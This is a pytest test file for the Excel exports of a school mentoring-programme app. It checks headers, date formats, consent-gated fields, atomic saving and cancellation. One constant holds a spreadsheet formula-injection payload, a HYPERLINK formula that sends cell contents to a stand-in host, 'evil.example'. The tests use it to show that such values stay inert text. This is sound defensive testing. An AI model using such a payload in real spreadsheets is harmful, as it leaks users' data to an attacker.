"""The bases in the Ministry's columns and «export the current view», read back with openpyxl:
sheets, headers, frozen bold header, real dates, no formulas, atomic writing, cancellation.

(tests/io has no __init__.py on purpose: a package named «io» would shadow the standard library.)
"""

from __future__ import annotations

from datetime import date, datetime
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from sqlalchemy import select

from mentordesk.errors import StorageError, ValidationError
from mentordesk.io.xlsx_write import MAX_WIDTH, ExportCancelled
from mentordesk.model import (
    Consent,
    ConsentSigner,
    MenteeProfile,
    MentorStatus,
    Person,
    PersonKind,
    Sex,
)
from mentordesk.services import people as P
from mentordesk.services.database import Database
from mentordesk.services.exports import (
    HIDDEN_SPECIAL,
    MENTEE_HEADERS,
    MENTOR_HEADERS,
    export_bases,
    export_rows,
)
from mentordesk.services.programme import create_programme, current_programme_id
from mentordesk.services.reference import list_request_kinds

TODAY = date(2027, 3, 15)
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Нажми")'


def no_formulas(wb: openpyxl.Workbook) -> None:
    for ws in wb:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)


def test_bases_in_the_ministrys_columns(demo: Database, tmp_path: Path) -> None:
    programme = current_programme_id(demo)
    assert programme is not None
    calls: list[tuple[int, int]] = []
    out = tmp_path / "выгрузка"
    out.mkdir()
    path = export_bases(demo, out / "базы.xlsx", progress=lambda d, t: calls.append((d, t)),
                        today=TODAY)
    assert path == out / "базы.xlsx"
    assert [p.name for p in out.iterdir()] == ["базы.xlsx"]  # no temporary file left
    mentees = P.mentee_rows(demo, programme, today=TODAY)
    mentors = [m for m in P.mentor_rows(demo, programme, today=TODAY)
               if m.status != MentorStatus.REJECTED.value]
    assert calls[-1] == (len(mentees) + len(mentors),) * 2

    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames == ["База наставляемых", "База наставников"]
    no_formulas(wb)
    for ws, headers, count in ((wb["База наставляемых"], MENTEE_HEADERS, len(mentees)),
                               (wb["База наставников"], MENTOR_HEADERS, len(mentors))):
        assert tuple(c.value for c in ws[1]) == headers
        assert all(c.font.b for c in ws[1])
        assert ws.freeze_panes == "A2"
        assert ws.max_row == count + 1
        for letter, dim in ws.column_dimensions.items():
            assert 6 <= dim.width <= MAX_WIDTH + 2, letter
        assert ws.cell(row=2, column=1).alignment.wrap_text
    assert MENTEE_HEADERS == (
        "ФИО", "Контакты", "Возраст", "Ключевой запрос", "Дата вхождения в программу",
        "ФИО наставника", "Место работы/учёбы наставника", "Форма наставничества",
        "Место реализации", "Срок реализации", "Результаты", "Ссылка на кейс/отзыв")
    assert MENTOR_HEADERS[6:10] == ("Желаемый возраст наставляемых", "Удобное время встреч",
                                    "Дата вхождения", "ФИО наставляемого(-ых)")

    sheet = wb["База наставляемых"]
    by_name = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    paired = next(m for m in mentees if m.mentor_name and m.consent_ok)
    row = by_name[paired.full_name]
    entered = row[MENTEE_HEADERS.index("Дата вхождения в программу")]
    assert entered.is_date and entered.number_format == "DD.MM.YYYY"
    assert entered.value == datetime.combine(paired.entered_on, datetime.min.time())
    assert row[2].value == paired.age and row[5].value == paired.mentor_name
    assert row[6].value and row[8].value and " – " in row[9].value  # workplace, venue, period
    assert row[3].value.startswith(paired.request_kind)

    mentor_sheet = wb["База наставников"]
    busiest = max(mentors, key=lambda m: len(m.mentees))
    mentor_row = next(r for r in mentor_sheet.iter_rows(min_row=2)
                      if r[0].value == busiest.full_name)
    assert mentor_row[9].value.split("\n") == list(busiest.mentees)
    assert mentor_row[8].is_date and mentor_row[8].number_format == "DD.MM.YYYY"


def test_special_category_is_written_only_with_written_consent(demo: Database,
                                                              tmp_path: Path) -> None:
    programme = current_programme_id(demo)
    assert programme is not None
    with demo.write() as s:
        ovz = next(m for m in s.scalars(select(MenteeProfile)) if m.has_disability
                   and any(c.special_category for c in m.person.consents))
        name = ovz.person.full_name
        for consent in ovz.person.consents:
            consent.special_category = False
    wb = openpyxl.load_workbook(export_bases(demo, tmp_path / "b.xlsx", today=TODAY))
    row = next(r for r in wb["База наставляемых"].iter_rows(min_row=2, values_only=True)
               if r[0] == name)
    assert row[3] == HIDDEN_SPECIAL


def test_formula_like_text_stays_text(db: Database, tmp_path: Path) -> None:
    """A name that an import let through, and a phone starting with «+», are plain text."""
    programme = create_programme(db, title="Программа", starts_on=date(2026, 9, 1),
                                 ends_on=date(2027, 8, 31), organisation_name="Школа")
    kind = next(i for i, n, _ in list_request_kinds(db) if n == "Адаптация")
    mentee_id = P.save_mentee(db, programme, P.MenteeForm(
        last_name="Ёлкина", first_name="Анна", sex=Sex.FEMALE, birth_date=date(2008, 3, 5),
        class_label="11А", phone="+7 912 345-67-89", request_kind_id=kind,
        request_text="-5 по алгебре", entered_on=date(2026, 10, 1)), TODAY)
    with db.write() as s:
        profile = s.get(MenteeProfile, mentee_id)
        assert profile is not None
        profile.person.last_name = HOSTILE  # as a careless import might have stored it
        profile.case_link = "@SUM(1+1)"
        s.add(Consent(person_id=profile.person_id, signer=ConsentSigner.SELF,
                      signed_on=date(2026, 9, 10)))
    path = export_bases(db, tmp_path / "b.xlsx", today=TODAY)
    wb = openpyxl.load_workbook(path)
    no_formulas(wb)
    row = next(wb["База наставляемых"].iter_rows(min_row=2))
    assert row[0].value.startswith(HOSTILE) and row[0].data_type == "s"
    assert row[0].quotePrefix
    assert row[1].value == "+7 (912) 345-67-89" and row[1].data_type == "s"
    assert row[3].value == "Адаптация: -5 по алгебре"
    assert row[11].value == "@SUM(1+1)" and row[11].data_type == "s"


def test_export_rows_of_the_current_view(tmp_path: Path) -> None:
    headers = ["ФИО", "Телефон", "Дата", "Число", "Флаг", "Интересы", "Пусто"]
    rows: list[list[Any]] = [
        [HOSTILE, "+7 (912) 345-67-89", date(2026, 9, 1), 7, True, ("шахматы", "танцы"), None],
        ["=1+2", "-1", datetime(2026, 9, 1, 14, 30), 2.5, False, [], ""],
        ["Звонок\x07 в тексте", "@home", None, None, None, "x" * 500, None],
    ]
    path = export_rows(tmp_path / "вид.xlsx", headers, rows, "База: наставляемые / 7А?")
    wb = openpyxl.load_workbook(path)
    ws = wb.active
    assert ws.title == "База наставляемые 7А"
    no_formulas(wb)
    assert [c.value for c in ws[1]] == headers and ws.freeze_panes == "A2" and ws["A1"].font.b
    assert ws["A2"].value == HOSTILE and ws["A3"].value == "=1+2" and ws["B3"].value == "-1"
    assert ws["C2"].is_date and ws["C2"].number_format == "DD.MM.YYYY"
    assert ws["C3"].is_date and ws["C3"].value == datetime(2026, 9, 1, 14, 30)
    assert ws["D2"].value == 7 and ws["D3"].value == 2.5
    assert (ws["E2"].value, ws["E3"].value) == ("да", "нет")
    assert ws["F2"].value == "шахматы\nтанцы"
    assert ws["A4"].value == "Звонок в тексте"
    assert ws.column_dimensions["F"].width <= MAX_WIDTH + 2
    assert ws.auto_filter.ref == "A1:G4"


def test_cancel_leaves_no_file_and_keeps_the_old_one(demo: Database, tmp_path: Path) -> None:
    out = tmp_path / "выгрузка"
    out.mkdir()
    target = out / "базы.xlsx"
    target.write_bytes(b"previous export")
    seen = []

    def cancelled() -> bool:
        seen.append(1)
        return len(seen) > 1

    with pytest.raises(ExportCancelled) as error:
        export_bases(demo, target, cancelled=cancelled, today=TODAY)
    assert "отменена" in error.value.message
    assert target.read_bytes() == b"previous export"
    assert [p.name for p in out.iterdir()] == ["базы.xlsx"]

    def broken(done: int, total: int) -> None:
        raise RuntimeError("progress dialog closed")

    with pytest.raises(RuntimeError):
        export_rows(out / "вид.xlsx", ["A"], [[i] for i in range(1000)], progress=broken)
    assert [p.name for p in out.iterdir()] == ["базы.xlsx"]


def test_missing_folder_and_missing_programme(db: Database, tmp_path: Path) -> None:
    with pytest.raises(ValidationError):
        export_bases(db, tmp_path / "b.xlsx")
    with pytest.raises(StorageError) as error:
        export_rows(tmp_path / "нет такой папки" / "b.xlsx", ["A"], [])
    assert "не найдена" in error.value.message


def test_a_minor_mentees_contacts_are_the_guardians(demo: Database, tmp_path: Path) -> None:
    wb = openpyxl.load_workbook(export_bases(demo, tmp_path / "b.xlsx", today=TODAY))
    with demo.read() as s:
        child = s.scalars(select(Person).join(MenteeProfile, MenteeProfile.person_id == Person.id)
                          .where(Person.kind == PersonKind.PUPIL, Person.grade <= 4)).first()
        assert child is not None
        name = child.full_name
    row = next(r for r in wb["База наставляемых"].iter_rows(min_row=2, values_only=True)
               if r[0] == name)
    assert "(мать)" in row[1] or "(отец)" in row[1]


def test_a_failed_save_keeps_the_old_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    target = tmp_path / "вид.xlsx"
    target.write_bytes(b"previous export")

    def disk_full(self: openpyxl.Workbook, filename: str) -> None:
        Path(filename).write_bytes(b"half a zip")
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(openpyxl.Workbook, "save", disk_full)
    with pytest.raises(StorageError) as error:
        export_rows(target, ["A"], [["x"]])
    assert "вид.xlsx" in error.value.message
    assert target.read_bytes() == b"previous export"
    assert [p.name for p in tmp_path.iterdir()] == ["вид.xlsx"]
